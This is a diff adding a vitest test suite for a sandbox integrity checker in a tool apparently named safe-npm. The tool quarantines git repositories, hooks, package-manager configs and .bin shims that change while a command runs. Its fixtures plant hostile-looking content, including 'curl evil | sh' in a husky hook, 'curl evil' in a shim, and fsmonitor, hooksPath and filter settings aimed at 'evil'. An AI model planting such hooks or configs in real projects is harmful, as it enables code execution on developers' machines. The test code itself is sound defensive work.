@@ -1,0 +1,395 @@
+import { spawnSync } from "node:child_process";
+import {
+  chmodSync,
+  existsSync,
+  lstatSync,
+  mkdirSync,
+  mkdtempSync,
+  readlinkSync,
+  renameSync,
+  rmSync,
+  symlinkSync,
+  writeFileSync,
+} from "node:fs";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { afterEach, beforeEach, describe, expect, it } from "vitest";
+import {
+  check,
+  type Finding,
+  pointsIntoSelf,
+  quarantine,
+  rootGitPlaces,
+  snapshot,
+  type Watch,
+} from "../../../src/sandbox/integrity.js";
+
+let root: string;
+beforeEach(() => {
+  root = mkdtempSync(join(tmpdir(), "safe-npm-integrity-"));
+});
+afterEach(() => rmSync(root, { recursive: true, force: true }));
+
+function file(rel: string, text = ""): void {
+  mkdirSync(join(root, rel, ".."), { recursive: true });
+  writeFileSync(join(root, rel), text);
+}
+/** A bare-repository shape: HEAD, objects/, refs/. */
+function bare(rel: string, config = ""): void {
+  file(`${rel}/HEAD`, "ref: refs/heads/main\n");
+  mkdirSync(join(root, rel, "objects"), { recursive: true });
+  mkdirSync(join(root, rel, "refs"), { recursive: true });
+  file(`${rel}/config`, config);
+}
+/** Snapshot, run `during`, check: the paths moved aside (relative), and the findings. */
+function around(
+  during: () => void,
+  options: { skip?: string[]; install?: boolean; watch?: Watch[] } = {},
+): { moved: string[]; findings: Finding[] } {
+  const skip = (options.skip ?? []).map((p) => join(root, p));
+  const before = snapshot(root, options.watch ?? [], { skip });
+  during();
+  const findings = check(root, before, { skip, install: options.install ?? false });
+  return {
+    moved: findings.filter((f) => f.movedTo !== null).map((f) => f.path.slice(root.length + 1)),
+    findings,
+  };
+}
+
+describe("snapshot and check: git repositories", () => {
+  it("moves nothing when nothing changed, however recently it was made", () => {
+    file(".git/config");
+    file("vendor/lib/.git/config");
+    file("vendor/lib/.git/hooks/pre-commit.sample");
+    file("sub/.git", "gitdir: ../elsewhere\n");
+    bare("repos/x.git");
+    expect(around(() => {}).moved).toEqual([]);
+  });
+
+  it("moves a new .git directory, .git file and .git symlink anywhere outside node_modules", () => {
+    file(".git/config");
+    const { moved } = around(
+      () => {
+        file("sub/.git/config", "[core]\n\tfsmonitor = evil\n");
+        file("deep/er/.git", "gitdir: ../../evil\n");
+        mkdirSync(join(root, "linked"));
+        symlinkSync("/tmp", join(root, "linked", ".git"));
+      },
+      { skip: [".git"] },
+    );
+    expect(moved).toEqual(["deep/er/.git", "linked/.git", "sub/.git"]);
+    // The link itself was renamed; its target was not followed.
+    expect(readlinkSync(join(root, "linked/.git.quarantined-by-safe-npm"))).toBe("/tmp");
+  });
+
+  it("moves an existing repository whose config, hooks, attributes or gitdir changed, not one git merely used", () => {
+    for (const name of ["a", "b", "c", "d", "e"]) file(`vendor/${name}/.git/config`);
+    file("vendor/a/.git/hooks/pre-commit.sample");
+    file("vendor/e/.git/info/exclude");
+    file("w/.git", "gitdir: ../vendor/e/.git\n");
+    const { moved } = around(() => {
+      file("vendor/a/.git/hooks/post-checkout", "#!/bin/sh\nevil\n");
+      file("vendor/b/.git/config", "[core]\n\thooksPath = /tmp/evil\n");
+      file("vendor/c/.git/index.lock");
+      file("vendor/d/.git/info/attributes", "* filter=evil\n");
+      file("w/.git", "gitdir: /elsewhere\n");
+    });
+    expect(moved).toEqual(["vendor/a/.git", "vendor/b/.git", "vendor/d/.git", "w/.git"]);
+  });
+
+  it("notices a hook made executable", () => {
+    file("vendor/a/.git/config");
+    file("vendor/a/.git/hooks/pre-commit", "#!/bin/sh\n");
+    expect(
+      around(() => chmodSync(join(root, "vendor/a/.git/hooks/pre-commit"), 0o755)).moved,
+    ).toEqual(["vendor/a/.git"]);
+  });
+
+  it("notices a .git replaced by another one with the same content (identity)", () => {
+    file("vendor/a/.git", "gitdir: ../x\n");
+    const { moved } = around(() => {
+      file("vendor/a/other", "gitdir: ../x\n");
+      renameSync(join(root, "vendor/a/other"), join(root, "vendor/a/.git"));
+    });
+    expect(moved).toEqual(["vendor/a/.git"]);
+  });
+
+  it("skips the paths it is told to (the read-only project .git)", () => {
+    expect(
+      around(() => file(".git/config", "[core]\n\tfsmonitor = x\n"), { skip: [".git"] }).moved,
+    ).toEqual([]);
+  });
+
+  it("moves a directory turned into a bare repository, and a changed bare repository", () => {
+    bare("repos/old.git");
+    file("src/index.js");
+    const { moved } = around(() => {
+      bare("src", "[core]\n\tworktree = ..\n\tfsmonitor = evil\n");
+      file("repos/old.git/config", "[core]\n\tfsmonitor = evil\n");
+      file("repos/old.git/objects/ab/cdef", "data");
+    });
+    expect(moved).toEqual(["repos/old.git", "src"]);
+    expect(existsSync(join(root, "src.quarantined-by-safe-npm", "index.js"))).toBe(true);
+  });
+
+  it("moves the HEAD of a project root turned into a bare repository (the root itself stays)", () => {
+    file("package.json", "{}");
+    const { moved } = around(() => bare(".", "[core]\n\tfsmonitor = evil\n"));
+    expect(moved).toEqual(["HEAD"]);
+    expect(existsSync(join(root, "package.json"))).toBe(true);
+  });
+
+  it("finds repositories in nested git dirs (submodules under .git/modules)", () => {
+    file("vendor/a/.git/config");
+    bare("vendor/a/.git/modules/m");
+    const { moved } = around(() =>
+      file("vendor/a/.git/modules/m/config", "[core]\n\tfsmonitor = x\n"),
+    );
+    expect(moved).toEqual(["vendor/a/.git/modules/m"]);
+  });
+
+  it("inside node_modules, looks at package directories and one nested level only", () => {
+    file("node_modules/a/package.json");
+    file("node_modules/@s/b/package.json");
+    file("node_modules/a/node_modules/c/package.json");
+    const { moved } = around(() => {
+      file("node_modules/a/.git/config");
+      file("node_modules/@s/b/.git", "gitdir: /x\n");
+      bare("node_modules/a/node_modules/c");
+      file("node_modules/a/lib/deep/.git/config");
+    });
+    expect(moved).toEqual([
+      "node_modules/@s/b/.git",
+      "node_modules/a/.git",
+      "node_modules/a/node_modules/c",
+    ]);
+  });
+
+  it("never hangs on a FIFO planted where it hashes", () => {
+    file("vendor/a/.git/config");
+    const { moved } = around(() => {
+      rmSync(join(root, "vendor/a/.git/config"));
+      expect(spawnSync("mkfifo", [join(root, "vendor/a/.git/config")]).status).toBe(0);
+    });
+    expect(moved).toEqual(["vendor/a/.git"]);
+  });
+});
+
+describe("snapshot and check: hooks directories", () => {
+  it("moves a hook added to a watched hooks directory, and a watched one created", () => {
+    file(".husky/pre-commit", "npx lint-staged\n");
+    const watch: Watch[] = [
+      { kind: "hook", path: join(root, ".husky") },
+      { kind: "hook", path: join(root, ".githooks") },
+    ];
+    const { moved } = around(
+      () => {
+        file(".husky/pre-commit", "npx lint-staged\ncurl evil | sh\n");
+        file(".githooks/pre-push", "evil\n");
+      },
+      { watch },
+    );
+    expect(moved).toEqual([".githooks", ".husky/pre-commit"]);
+  });
+
+  it("moves a watched package-manager config file created or changed inside", () => {
+    const watch: Watch[] = [{ kind: "pmconfig", path: join(root, "pnpm-workspace.yaml") }];
+    const created = around(() => file("pnpm-workspace.yaml", "pnpmfile: evil.cjs\n"), { watch });
+    expect(created.moved).toEqual(["pnpm-workspace.yaml"]);
+    expect(created.findings[0]?.kind).toBe("pmconfig");
+    rmSync(join(root, "pnpm-workspace.yaml.quarantined-by-safe-npm"));
+    expect(around(() => {}, { watch }).moved).toEqual([]);
+  });
+
+  it("follows a nested repository's core.hooksPath", () => {
+    file("vendor/a/.git/config", "[core]\n\thooksPath = hooks-dir\n");
+    file("vendor/a/hooks-dir/pre-commit", "ok\n");
+    const { moved } = around(() => file("vendor/a/hooks-dir/pre-commit", "evil\n"));
+    expect(moved).toEqual(["vendor/a/hooks-dir/pre-commit"]);
+  });
+  it("moves a repository whose hooksPath was pointed elsewhere, not the files it now names", () => {
+    file("vendor/a/.git/config");
+    file("src/index.js");
+    const { moved } = around(() =>
+      file("vendor/a/.git/config", "[core]\n\thooksPath = ../../src\n"),
+    );
+    expect(moved).toEqual(["vendor/a/.git"]);
+  });
+
+  it("counts only hook names in a hooks directory that is a worktree's top", () => {
+    file("vendor/a/.git/config", "[core]\n\thooksPath = .\n");
+    const { moved } = around(() => {
+      file("vendor/a/notes.txt", "hi\n");
+      file("vendor/a/pre-commit", "evil\n");
+    });
+    expect(moved).toEqual(["vendor/a/pre-commit"]);
+  });
+});
+
+describe("snapshot and check: the script prefix", () => {
+  it("moves a new node_modules/.bin/safe-npm (root or workspace) that runs something else, and any new .bin/node", () => {
+    file("packages/a/package.json", "{}");
+    const { moved } = around(() => {
+      file("node_modules/evil/cli.js", "evil");
+      mkdirSync(join(root, "node_modules/.bin"), { recursive: true });
+      symlinkSync("../evil/cli.js", join(root, "node_modules/.bin/safe-npm"));
+      file("packages/a/node_modules/.bin/safe-npm", "#!/bin/sh\nevil\n");
+      symlinkSync("../evil/cli.js", join(root, "node_modules/.bin/node"));
+    });
+    expect(moved).toEqual([
+      "node_modules/.bin/node",
+      "node_modules/.bin/safe-npm",
+      "packages/a/node_modules/.bin/safe-npm",
+    ]);
+  });
+
+  it("keeps a .bin/safe-npm that points into node_modules/safe-npm (npm's link, pnpm's shim)", () => {
+    const self = { name: "safe-npm", version: "1.0.0" };
+    file("package.json", JSON.stringify({ devDependencies: { "safe-npm": "^1.0.0" } }));
+    const { findings } = around(
+      () => {
+        file("node_modules/safe-npm/package.json", JSON.stringify(self));
+        file("node_modules/safe-npm/dist/cli.cjs", "cli");
+        mkdirSync(join(root, "node_modules/.bin"), { recursive: true });
+        symlinkSync("../safe-npm/dist/cli.cjs", join(root, "node_modules/.bin/safe-npm"));
+      },
+      { install: true },
+    );
+    expect(findings).toEqual([
+      expect.objectContaining({
+        kind: "self",
+        movedTo: null,
+        upgrade: { from: null, to: "1.0.0" },
+      }),
+    ]);
+    file(
+      "w/node_modules/.bin/safe-npm",
+      '#!/bin/sh\nbasedir=$(dirname "$(echo "$0" | sed -e \'s,\\\\,/,g\')")\n\ncase `uname` in\n    *CYGWIN*) basedir=`cygpath -w "$basedir"`;;\nesac\n\nif [ -z "$NODE_PATH" ]; then\n  export NODE_PATH="/p/node_modules/.pnpm/node_modules"\nelse\n  export NODE_PATH="/p/node_modules/.pnpm/node_modules:$NODE_PATH"\nfi\nif [ -x "$basedir/node" ]; then\n  exec "$basedir/node"  "$basedir/../safe-npm/dist/cli.cjs" "$@"\nelse\n  exec node  "$basedir/../safe-npm/dist/cli.cjs" "$@"\nfi\n',
+    );
+    expect(pointsIntoSelf(join(root, "w/node_modules/.bin/safe-npm"))).toBe(true);
+    file(
+      "w/node_modules/.bin/safe-npm",
+      '#!/bin/sh\nexec node "$basedir/../safe-npm/dist/cli.cjs" "$@"\ncurl evil\n',
+    );
+    expect(pointsIntoSelf(join(root, "w/node_modules/.bin/safe-npm"))).toBe(false);
+    file(
+      "w/node_modules/.bin/safe-npm",
+      '#!/bin/sh\nexec node "$basedir/../safe-npm/../evil.js" "$@"\n',
+    );
+    expect(pointsIntoSelf(join(root, "w/node_modules/.bin/safe-npm"))).toBe(false);
+  });
+
+  it("moves a project-local safe-npm whose files changed, unless an install upgraded it", () => {
+    const pkg = (version: string): string => JSON.stringify({ name: "safe-npm", version });
+    file("package.json", JSON.stringify({ devDependencies: { "safe-npm": "^1.0.0" } }));
+    file("node_modules/safe-npm/package.json", pkg("1.0.0"));
+    file("node_modules/safe-npm/dist/cli.cjs", "cli");
+    // \`npm ci\` re-extracts the same version: new files, same bytes, nothing to report.
+    expect(
+      around(
+        () => {
+          rmSync(join(root, "node_modules"), { recursive: true });
+          file("node_modules/safe-npm/package.json", pkg("1.0.0"));
+          file("node_modules/safe-npm/dist/cli.cjs", "cli");
+        },
+        { install: true },
+      ).findings,
+    ).toEqual([]);
+    // A run-class command changes it: moved.
+    expect(around(() => file("node_modules/safe-npm/dist/cli.cjs", "evil")).moved).toEqual([
+      "node_modules/safe-npm",
+    ]);
+    file("node_modules/safe-npm/package.json", pkg("1.0.0"));
+    file("node_modules/safe-npm/dist/cli.cjs", "cli");
+    // An install changes the files but not the version: tampering, moved.
+    expect(
+      around(() => file("node_modules/safe-npm/dist/cli.cjs", "evil"), { install: true }).moved,
+    ).toEqual(["node_modules/safe-npm"]);
+    rmSync(join(root, "node_modules"), { recursive: true });
+    file("node_modules/safe-npm/package.json", pkg("1.0.0"));
+    file("node_modules/safe-npm/dist/cli.cjs", "cli");
+    // An install upgrades it: kept and reported.
+    const upgrade = around(
+      () => {
+        file("node_modules/safe-npm/package.json", pkg("1.1.0"));
+        file("node_modules/safe-npm/dist/cli.cjs", "cli 1.1");
+      },
+      { install: true },
+    );
+    expect(upgrade.moved).toEqual([]);
+    expect(upgrade.findings[0]?.upgrade).toEqual({ from: "1.0.0", to: "1.1.0" });
+    // Not declared by the project (an alias, or a dependency's dependency): moved.
+    file("package.json", JSON.stringify({ dependencies: { "safe-npm": "npm:evil@1" } }));
+    expect(
+      around(() => file("node_modules/safe-npm/package.json", pkg("1.2.0")), { install: true })
+        .moved,
+    ).toEqual(["node_modules/safe-npm"]);
+  });
+});
+
+describe("rootGitPlaces", () => {
+  const home = (): string => join(root, "home");
+  it("protects the hooks directory the root config names (husky's .husky/_ means .husky)", () => {
+    file("p/.git/config", "[core]\n\thooksPath = .husky/_\n");
+    file("p/.husky/_/h");
+    file("p/.husky/pre-commit");
+    expect(rootGitPlaces(join(root, "p"), home(), {})).toEqual({
+      protect: [join(root, "p/.husky")],
+      watch: [],
+    });
+  });
+
+  it("watches a missing or linked hooks directory, and protects included config files", () => {
+    file("p/.git/config", "[include]\n\tpath = ../shared.gitconfig\n\tpath = ../missing.cfg\n");
+    file("p/shared.gitconfig", "[core]\n\thooksPath = hooks\n");
+    expect(rootGitPlaces(join(root, "p"), home(), {})).toEqual({
+      protect: [join(root, "p/shared.gitconfig")],
+      watch: [
+        { kind: "gitconfig", path: join(root, "p/missing.cfg") },
+        { kind: "hook", path: join(root, "p/hooks") },
+      ],
+    });
+  });
+
+  it("protects the directory a linked hooks directory points to inside the project", () => {
+    file("p/.git/config", "[core]\n\thooksPath = .githooks\n");
+    file("p/tools/hooks/pre-commit");
+    symlinkSync("tools/hooks", join(root, "p/.githooks"));
+    expect(rootGitPlaces(join(root, "p"), home(), {})).toEqual({
+      protect: [join(root, "p/tools/hooks")],
+      watch: [{ kind: "hook", path: join(root, "p/.githooks") }],
+    });
+  });
+
+  it("watches, not protects, a hooks directory inside node_modules (installs replace it)", () => {
+    file("p/.git/config", "[core]\n\thooksPath = node_modules/hooks-pkg/hooks\n");
+    file("p/node_modules/hooks-pkg/hooks/pre-commit");
+    expect(rootGitPlaces(join(root, "p"), home(), {})).toEqual({
+      protect: [],
+      watch: [{ kind: "hook", path: join(root, "p/node_modules/hooks-pkg/hooks") }],
+    });
+  });
+
+  it("reads a global hooksPath, the repository's overriding it; nothing without a repository", () => {
+    file("home/.gitconfig", "[core]\n\thooksPath = .githooks\n");
+    file("p/.git/config", "");
+    mkdirSync(join(root, "p/.githooks"));
+    expect(rootGitPlaces(join(root, "p"), home(), {}).protect).toEqual([join(root, "p/.githooks")]);
+    file("p/.git/config", "[core]\n\thooksPath = /etc/hooks\n");
+    expect(rootGitPlaces(join(root, "p"), home(), {})).toEqual({ protect: [], watch: [] });
+    rmSync(join(root, "p/.git"), { recursive: true });
+    expect(rootGitPlaces(join(root, "p"), home(), {})).toEqual({ protect: [], watch: [] });
+  });
+});
+
+describe("quarantine", () => {
+  it("renames without overwriting an earlier quarantine", () => {
+    file("sub/.git/config");
+    file("sub/.git.quarantined-by-safe-npm/config");
+    const moved = quarantine(join(root, "sub/.git"));
+    expect(moved).toBe(join(root, "sub/.git.quarantined-by-safe-npm-1"));
+    expect(existsSync(join(moved, "config"))).toBe(true);
+    expect(lstatSync(join(root, "sub")).isDirectory()).toBe(true);
+    expect(existsSync(join(root, "sub/.git"))).toBe(false);
+  });
+});
